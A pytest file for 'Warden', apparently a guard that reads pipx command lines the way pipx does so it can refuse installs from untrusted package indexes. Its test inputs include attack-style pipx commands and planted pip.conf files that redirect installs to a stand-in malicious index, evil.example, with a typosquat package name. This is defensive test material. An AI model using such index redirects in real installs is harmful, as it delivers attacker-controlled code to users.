"""Warden's reading of pipx command lines, held to the real pipx (red team red5 F4, L1).

pipx (pinned in requirements-dev.txt) builds its argparse parser here; for a generated corpus of
command lines (every command, every option in full, by each prefix, with ``=value``, attached
and combined short options, ``--`` at every place of a drawn sample and twice, missing values,
unknown options), whenever pipx's parser accepts a line, Warden either refuses it or reads the
same options, values and positional words, and the same index. Lines no parser should accept
are cut at every word: no reader path may raise.
"""

import argparse
import contextlib
import io
import itertools
import json
import re
import runpy
import shlex
from pathlib import Path

import pytest

from jupyterlab_warden.kernel.guard.installs import frontends, pipx_cli, pipx_request

REPO = Path(__file__).resolve().parents[2]
TABLE = json.loads((REPO / "schema" / "pipx-cli.json").read_text())["commands"]
EVIL = "https://evil.example/simple"
VALUES = {
    "index_url": EVIL,
    "pip_args": f" -i {EVIL}",  # a leading space: argparse takes it as a value, shlex drops it
    "spec": "torcj",
    "with_": "evil-pkg",
    "preinstall": "evil-pkg",
    "requirements": "req.txt",
    "backend": "uv",
    "python": "3.11",
    "fetch_python": "3.12",
    "cooldown": "3",
    "output": "json",
}
# Positional words each command needs (so that pipx's parser accepts the line).
POSITIONALS = {
    "install": ["black"],
    "inject": ["black", "evil-pkg"],
    "upgrade": ["black"],
    "run": ["black", "--index-url", EVIL],  # after the app: the app's own arguments
    "runpip": ["black", "install", "torcj"],
    "exec": ["black", "black", "--version"],
    "uninject": ["black", "dep"],
    "uninstall": ["black"],
    "pin": ["black"],
    "unpin": ["black"],
    "expose": ["black"],
    "unexpose": ["black"],
    "reinstall": ["black"],
    "install-all": ["spec.json"],
    "manifest lock": ["m.toml"],
    "manifest sync": ["m.toml"],
}


def _leaves():
    return [k for k, v in TABLE.items() if k and "subcommands" not in v]


def _spellings(option: str, options) -> list:
    """The option in full and each of its prefixes that argparse may take (unique or not)."""
    if not option.startswith("--"):
        return [option]
    return [option[:n] for n in range(3, len(option) + 1)]


def _forms(command: str) -> list:
    entry = TABLE[command]
    options = entry["options"]
    head, pos = command.split(), POSITIONALS.get(command, [])
    lines = [head + pos, head + ["--"] + pos, head + pos + ["--zzz"], head + ["-Z"] + pos]
    for option, (dest, arity) in options.items():
        if dest == "help":
            continue
        value = VALUES.get(dest, "x")
        for spelled in _spellings(option, options):
            if arity == 0:
                forms = [[spelled], [spelled + "=" + "1"]]
            else:
                forms = [[spelled, value], [spelled + "=" + value], [spelled]]
                if not spelled.startswith("--"):
                    forms.append([spelled + value])
            for form in forms:
                lines.append(head + form + pos)
                lines.append(head + pos + form)
    shorts = [o for o in options if not o.startswith("--") and options[o][0] != "help"]
    for a, b in itertools.permutations(shorts, 2):
        value = VALUES.get(options[b][0], "x")
        lines.append(head + ["-" + a[1] + b[1]] + ([value] if options[b][1] else []) + pos)
        if options[b][1]:
            lines.append(head + ["-" + a[1] + b[1] + value] + pos)
    return lines


def _dashdash(command: str, rng) -> list:
    """Lines of ``command`` with ``--`` put in: every position of a few of its lines (drawn
    with ``rng``) and, in some, a second ``--`` (red team 47b: argparse drops a ``--`` or keeps
    it by where it stands, and pipx parses ``inject`` with ``parse_intermixed_args``)."""
    head = command.split()
    lines = []
    forms = _forms(command)
    for words in rng.sample(forms, min(12, len(forms))):
        body = words[len(head) :]
        for at in range(len(body) + 1):
            once = body[:at] + ["--"] + body[at:]
            lines.append(head + once)
            twice = rng.randrange(len(once) + 1)
            lines.append(head + once[:twice] + ["--"] + once[twice:])
    return lines


def corpus() -> list:
    import random

    rng = random.Random(47)  # fixed: the same lines on every run
    lines = [["--version"], ["--global", "list"], ["-q", "install", "black"], ["--ver"]]
    for command in _leaves():
        lines += _forms(command) + _dashdash(command, rng)
    return lines


@pytest.fixture(scope="module")
def real_pipx(tmp_path_factory):
    """pipx's own parser (``parse(words)`` -> its Namespace, or None when pipx refuses)."""
    pytest.importorskip("pipx", reason="pipx is pinned in requirements-dev.txt")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PIPX_HOME", str(tmp_path_factory.mktemp("pipx-home")))
        from pipx.main import check_args, get_command_parser, parse_pipx_args

        parser, _ = get_command_parser()

        def defaults(command: str) -> dict:
            sub = parser
            for word in command.split():
                action = next(a for a in sub._actions if isinstance(a, argparse._SubParsersAction))
                sub = action.choices[word]
            return {a.dest: sub.get_default(a.dest) for a in sub._actions if a.option_strings}

        def parse(line):
            quiet = (
                contextlib.redirect_stderr(io.StringIO()),
                contextlib.redirect_stdout(io.StringIO()),
            )
            try:
                with quiet[0], quiet[1]:
                    ns = parse_pipx_args(parser, list(line))
                    check_args(ns)
            except SystemExit:
                return None
            return ns

        parse.defaults = defaults
        yield parse


def test_table_is_pipx_own(real_pipx):
    script = runpy.run_path(str(REPO / "scripts" / "pipx-cli-table.py"))
    assert script["text"]() == (REPO / "schema" / "pipx-cli.json").read_text()


def _command(ns) -> str:
    command = ns.command or ""
    for group in ("interpreter_command", "cache_command", "manifest_command"):
        if getattr(ns, group, None):
            command += " " + getattr(ns, group)
    return command


def _expected(ns, defaults: dict) -> dict:
    """What pipx's parser set: each option dest that differs from its default."""
    out = {}
    for dest, default in defaults.items():
        value = getattr(ns, dest, None)
        if dest == "help" or value == default:
            continue
        out[dest] = value
    return out


def _read(line, command: str) -> dict:
    out = {}
    options = TABLE[command]["options"]
    for dest, option, value in line.options:
        if options[option][1] == 0:
            out[dest] = out.get(dest, 0) + 1
        else:
            out.setdefault(dest, []).append(value)
    return out


def _same(dest, pipx_value, warden_values) -> bool:
    if isinstance(warden_values, int):
        return warden_values > 0  # flags and counts: seen
    if isinstance(pipx_value, list) and pipx_value and isinstance(pipx_value[0], str):
        flat = [v for vs in warden_values for v in ([vs] if isinstance(vs, str) else vs)]
        return pipx_value == flat or pipx_value == warden_values[-1]
    return str(pipx_value) == str(warden_values[-1])


def _positionals(ns, command: str) -> list:
    words = []
    for dest, _nargs in TABLE[command]["positionals"]:
        value = getattr(ns, dest, None)
        words += value if isinstance(value, list) else [] if value is None else [value]
    return [str(w) for w in words]


def test_warden_reads_every_line_pipx_accepts_as_pipx(real_pipx, tmp_path):
    checked = refused = rejected = dashed = 0
    for words in corpus():
        ns = real_pipx(words)
        if ns is None:
            rejected += 1
            continue
        line = pipx_cli.parse(words)
        if isinstance(line, str):
            refused += 1
            continue
        checked += 1
        dashed += "--" in words
        command = _command(ns)
        assert line.command == command, words
        if "subcommands" in TABLE[command]:
            continue
        expected, read = _expected(ns, real_pipx.defaults(command)), _read(line, command)
        assert set(expected) - {"fetch_python"} <= set(read), (words, expected, read)
        for dest, value in expected.items():
            if dest in read:
                assert _same(dest, value, read[dest]), (words, dest, value, read[dest])
        assert line.positionals + (line.remainder or []) == _positionals(ns, command), words
        request = pipx_request.request(words, str(tmp_path), {"HOME": str(tmp_path)})
        if request is not None and not request.problems and getattr(ns, "index_url", None):
            assert ns.index_url in [s.url for s in request.sources], words
    assert checked > 2000 and rejected > 1000, (checked, refused, rejected)
    assert dashed > 400, dashed  # lines with `--` read, not only refused (red team 47b)


def test_a_prefix_or_attached_index_is_read():
    """The red team's spellings (F4): each names the evil index or is refused."""
    for text in (
        f"install --index-u={EVIL} black",
        f"install --index {EVIL} black",
        f"install -i{EVIL} black",
        f"install -i={EVIL} black",
        f"install -qfi{EVIL} black",
        f"install --pip-arg='-i {EVIL}' black",
        f"install --pip='--index-url={EVIL}' black",
        f"run --sp=torcj --index-u {EVIL} black",
        f"inject --index-u={EVIL} black torcj",
        f"upgrade --index-u={EVIL} black",
    ):
        request = frontends.request("pipx", shlex.split(text), "/nonexistent", {})
        urls = [s.url for s in request.sources]
        assert EVIL in urls or request.problems, text


def test_unknown_options_after_the_command_are_refused():
    for text in ("install --zzz black", "install -Z black", "run --zzz black", "list --zzz"):
        request = frontends.request("pipx", shlex.split(text), "/nonexistent", {})
        assert request is not None and request.problems, text


@pytest.mark.parametrize(
    "text",
    [
        f"install --pip-args=--index-url={EVIL} --preinstall torcj --spec x black",
        f"run --with torcj --spec black --index-url {EVIL} --backend uv black --x y",
        f"inject -r req.txt --index-url {EVIL} --pip-args -i black torcj",
        "runpip black install -i https://x/simple --extra-index-url https://y torcj",
        "upgrade --global --backend pip --python 3.11 -i https://x black",
        "interpreter list --output json",
        "-qv --index-url x install black",
    ],
)
def test_truncated_lines_never_raise(text, tmp_path):
    words = shlex.split(text)
    for n in range(len(words) + 1):
        half = [words[n][: len(words[n]) // 2]] if n < len(words) else []
        for cut in (words[:n], words[:n] + half):
            line = pipx_cli.parse(cut)
            assert isinstance(line, (str, pipx_cli.PipxLine))
            request = frontends.request("pipx", cut, str(tmp_path), {"HOME": str(tmp_path)})
            assert request is None or isinstance(request.problems, list)


def test_a_prefixed_index_stops_a_real_pipx_process(guarded, tmp_path):
    """Real processes: a stand-in `pipx` whose payload writes a marker. Without Warden the
    prefixed redirect runs it; with Warden it is refused before it starts."""
    from test_install_gate import POLICY

    marker = tmp_path / "ran.txt"
    pipx = tmp_path / "bin" / "pipx"
    pipx.parent.mkdir()
    pipx.write_text(f'#!/bin/sh\necho "$@" >> {marker}\n')
    pipx.chmod(0o755)
    argv = [str(pipx), "install", f"--index-u={EVIL}", "black"]
    assert guarded(POLICY, argv, guarded=False)["exit"] == 0 and marker.exists()
    marker.unlink()
    refused = guarded(POLICY, argv)
    assert refused["type"] == "WardenBlockedInstall", refused
    assert "evil.example" in refused["refused"] and not marker.exists()


def test_pip_conf_of_pipx_venvs_is_read(tmp_path):
    """pip reads the pip.conf of the venv it runs in: pipx's shared libraries and the venv of
    inject/upgrade/runpip (kernel side); pip's [install] section applies to every pipx install."""
    home = tmp_path / "home"
    pipx_home = home / ".local" / "share" / "pipx"
    (pipx_home / "venvs" / "black").mkdir(parents=True)
    (pipx_home / "shared").mkdir()
    (pipx_home / "venvs" / "black" / "pip.conf").write_text(f"[install]\nindex-url = {EVIL}\n")
    (pipx_home / "shared" / "pip.conf").write_text("[install]\nextra-index-url = https://e2.x\n")
    env = {"HOME": str(home), "XDG_CONFIG_DIRS": str(home)}

    def urls(command, **more):
        found = pipx_request.request(shlex.split(command), str(tmp_path), dict(env, **more))
        from jupyterlab_warden.kernel.guard.installs import sources

        sources.add_implicit_sources(found, dict(env, **more), "pipx", str(tmp_path))
        return {s.url for s in found.sources}

    assert {EVIL, "https://e2.x"} <= urls("inject black isort")
    assert {EVIL, "https://e2.x"} <= urls("runpip black install isort")
    assert EVIL not in urls("install isort") and "https://e2.x" in urls("install isort")
    import os

    assert "https://e2.x" not in urls("install isort", PIP_CONFIG_FILE=os.devnull)
    # red6 F6: an install into the existing venv (--force, --suffix) runs pip in it
    assert EVIL in urls("install --force black") and EVIL in urls("install -f Black")
    (pipx_home / "venvs" / "isort2").mkdir()
    (pipx_home / "venvs" / "isort2" / "pip.conf").write_text(f"[global]\nindex-url = {EVIL}\n")
    assert EVIL in urls("install --suffix 2 isort")


def test_pip_conf_and_uv_config_of_pipx_run_cache_venvs_are_read(tmp_path):
    """red7 R7-10: `pipx run NAME` makes its venv in `<home>/.cache/<digest>`, a folder that
    may already hold a pip.conf (or uv.toml); pip (or uv) runs there and reads it."""
    import os

    from jupyterlab_warden.kernel.guard.installs import sources

    pipx_home = tmp_path / "ph"
    cache = pipx_home / ".cache" / "0123456789abcde"
    cache.mkdir(parents=True)
    (cache / "pip.conf").write_text(f"[global]\nindex-url = {EVIL}\n")
    (pipx_home / ".cache" / "other").mkdir()
    (pipx_home / ".cache" / "other" / "uv.toml").write_text('index-url = "https://e3.x/simple"\n')
    env = {"HOME": str(tmp_path), "PIPX_HOME": str(pipx_home), "XDG_CONFIG_DIRS": str(tmp_path)}

    def urls(command):
        found = pipx_request.request(shlex.split(command), str(tmp_path), env)
        sources.add_implicit_sources(found, env, "pipx", str(tmp_path))
        return {s.url for s in found.sources}, found.problems

    found, _ = urls("run --backend pip black")
    assert EVIL in found
    found, _ = urls("run black")  # may use uv: the uv.toml of any cache venv too
    assert {EVIL, "https://e3.x/simple"} <= found
    assert EVIL not in urls("install black")[0]  # install makes its venv under venvs/
    os.chmod(pipx_home / ".cache", 0)
    try:
        if not os.access(pipx_home / ".cache", os.R_OK):  # root reads it anyway
            assert any("run cache" in p for p in urls("run black")[1])
    finally:
        os.chmod(pipx_home / ".cache", 0o755)


def test_forced_install_of_an_unnamed_spec_is_refused_only_while_a_venv_exists(tmp_path):
    """red6 F11 (kernel side): pipx names a folder/URL/VCS spec only by building it, then
    reuses the pip arguments recorded in the venv of that name; Warden cannot find that record,
    so it refuses while any venv exists (the static side, which cannot list folders, always)."""
    home = tmp_path / "ph"
    env = {"HOME": str(tmp_path), "PIPX_HOME": str(home)}

    def problems(command):
        found = pipx_request.request(shlex.split(command), str(tmp_path), env)
        return [p for p in found.problems if "recorded arguments" in p]

    assert problems("install --upgrade ./black-src") == []  # no pipx home yet
    (home / "venvs").mkdir(parents=True)
    assert problems("install --upgrade ./black-src") == []  # no venv in it
    (home / "venvs" / "black").mkdir()
    assert problems("install --upgrade ./black-src")
    assert problems("install -f git+https://git.example/me/black-src")
    assert problems("install ./black-src") == []  # without --force pipx keeps the venv
    assert problems("install --force black") == []  # by name: the record is read instead
    # venvs Warden cannot list (here not a folder) may hold one: refused, not read as none
    other = tmp_path / "other"
    other.mkdir()
    (other / "venvs").write_text("")
    env["PIPX_HOME"] = str(other)
    assert problems("install --upgrade ./black-src")


def test_pipx_home_is_expanded_as_pipx_expands_it(tmp_path):
    """red6 F13: pipx reads PIPX_HOME as `Path(value).expanduser().absolute()`: `~name` from
    the password database, `~` from the command's HOME, a relative one from its cwd; one it
    cannot expand is refused (pipx stops)."""
    import os
    import pwd

    user = pwd.getpwuid(os.getuid())
    back = os.path.relpath(tmp_path, user.pw_dir)
    venv = tmp_path / "ph" / "venvs" / "black"
    venv.mkdir(parents=True)
    (venv / "pip.conf").write_text(f"[global]\nindex-url = {EVIL}\n")
    (tmp_path / "home").mkdir()
    env = {"HOME": str(tmp_path / "home"), "PIP_CONFIG_FILE": os.devnull}

    def configs(pipx_home):
        found = pipx_request.request(
            shlex.split("inject black isort"), str(tmp_path), dict(env, PIPX_HOME=pipx_home)
        )
        return found.pip_config_extra, found.problems

    for form in (f"~{user.pw_name}/{back}/ph", "~/../ph", "ph", str(tmp_path / "ph")):
        extra, problems = configs(form)
        assert any(os.path.samefile(p, venv / "pip.conf") for p in extra if os.path.exists(p))
        assert not problems, form
    _, problems = configs("~no-such-user-warden/ph")
    assert problems


def test_python_args_that_drop_the_guard_are_refused_in_the_kernel(tmp_path):
    """`pipx run --python-args=-I APP`: the app's Python would start without the guard (kernel
    only: the static side has no guard to lose)."""
    from jupyterlab_warden.kernel.guard.installs.gate import read_requests

    found = read_requests(None, "pipx run --python-args=-I black", {}, str(tmp_path))
    assert any(r.problems for r in found)
    assert not any(r.problems for r in read_requests(None, "pipx run black", {}, str(tmp_path)))


PARSE_VECTORS = json.loads((REPO / "schema" / "vectors" / "pipx-parse.json").read_text())


@pytest.mark.parametrize("vector", PARSE_VECTORS["vectors"], ids=lambda v: " ".join(v["args"]))
def test_pipx_parse_vector(vector):
    """The shared pipx reading (schema/vectors/pipx-parse.json; src/deps/pipx.spec.ts runs it
    on the static side)."""
    line = pipx_cli.parse(vector["args"])
    if isinstance(line, str):
        assert vector["expect"] == {"refused": True}, line
    else:
        assert {
            "command": line.command,
            "options": [list(o) for o in line.options],
            "positionals": line.positionals,
            "remainder": line.remainder,
        } == vector["expect"]


# argparse's `_negative_number_matcher`
_NEGATIVE = re.compile(r"^-\d+$|^-\d*\.\d+$")
DASH_VALUE_VECTORS = [
    v
    for v in PARSE_VECTORS["vectors"]
    if any(w.startswith("-") and (" " in w or _NEGATIVE.match(w)) for w in v["args"])
    and "--" not in v["args"]  # held by test_a_dashdash_vector_is_read_as_pipx_reads_it
]


@pytest.mark.parametrize("vector", DASH_VALUE_VECTORS, ids=lambda v: " ".join(v["args"]))
def test_a_dash_word_that_is_a_value_is_read_as_pipx_reads_it(vector, real_pipx):
    """Red team 46b R46b-1: argparse reads a word starting with '-' that names no option and
    holds a space (or is a negative number) as a value (`--pip-args "--no-cache-dir --pre"`);
    each such vector is read (or refused) as the real pipx parser reads (or refuses) it."""
    ns = real_pipx(vector["args"])
    line = pipx_cli.parse(vector["args"])
    assert (ns is None) == isinstance(line, str), (vector["args"], line)
    if ns is None:
        return
    for dest, option, value in line.options:
        if TABLE[line.command]["options"][option][1] == 1:
            assert getattr(ns, dest) == value, (vector["args"], dest)
    assert line.positionals + (line.remainder or []) == _positionals(ns, line.command)


DASHDASH_VECTORS = [v for v in PARSE_VECTORS["vectors"] if "--" in v["args"]]


@pytest.mark.parametrize("vector", DASHDASH_VECTORS, ids=lambda v: " ".join(v["args"]))
def test_a_dashdash_vector_is_read_as_pipx_reads_it(vector, real_pipx):
    """Red team 47b: each `--` vector that pipx's parser accepts is read as it reads it (the
    words after `--`, the one a positional drops, the ones run/runpip/exec hand on), or refused
    for a `--` whose reading differs between Python versions (the refusal names it) or for an
    option between a command's positional words (read by no Warden path)."""
    ns = real_pipx(vector["args"])
    line = pipx_cli.parse(vector["args"])
    if ns is None:
        return
    if isinstance(line, str):
        assert "`--`" in line or "between a command's positional words" in line, line
        return
    for dest, option, value in line.options:
        if TABLE[line.command]["options"][option][1] == 1:
            assert getattr(ns, dest) == value, (vector["args"], dest)
    assert line.positionals + (line.remainder or []) == _positionals(ns, line.command)
    if line.command in ("runpip", "exec"):
        handed = ns.pipargs if line.command == "runpip" else ns.app_args
        assert line.remainder == handed, vector["args"]
